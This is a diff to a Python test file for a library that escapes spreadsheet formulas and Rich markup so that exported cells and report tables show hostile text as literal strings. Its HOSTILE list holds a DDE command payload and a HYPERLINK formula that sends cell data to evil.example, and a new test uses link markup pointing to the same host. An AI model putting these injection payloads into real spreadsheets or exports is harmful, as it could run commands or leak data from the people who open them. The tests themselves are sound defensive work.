@@ -8,8 +8,10 @@ import polars as pl
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
+from rich.console import Console
 
 from dunmore.cells import FORMULA_STARTS, csv_safe, escape_text, unescape_text, unescaped, xlsx_row
+from dunmore.reports.render import rich_table
 
 HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"发票")', "+1+1", "-2+3", "@SUM(1)"]
 texts = st.text(alphabet=st.sampled_from("=+-@'\t\r\n a中") | st.characters(exclude_categories=["Cs"]))
@@ -65,3 +67,10 @@ def test_xlsx_text_cells_are_strings_even_when_they_look_like_formulas(tmp_path:
     row = next(load_workbook(tmp_path / "s.xlsx")["s"].iter_rows())
     assert [(cell.value, cell.data_type) for cell in row[: len(HOSTILE)]] == [(t, "s") for t in HOSTILE]
     assert (row[len(HOSTILE)].value, row[len(HOSTILE)].data_type) == (-5, "n")
+
+
+def test_a_report_table_shows_a_name_that_looks_like_markup_as_it_is() -> None:
+    frame = pl.DataFrame({"name": ["[link=https://evil.example]pay here[/link]"], "currency": ["CNY"]})
+    console = Console(record=True, width=200)
+    console.print(rich_table(frame, title="t", money=[]))
+    assert "[link=https://evil.example]pay here[/link]" in console.export_text()
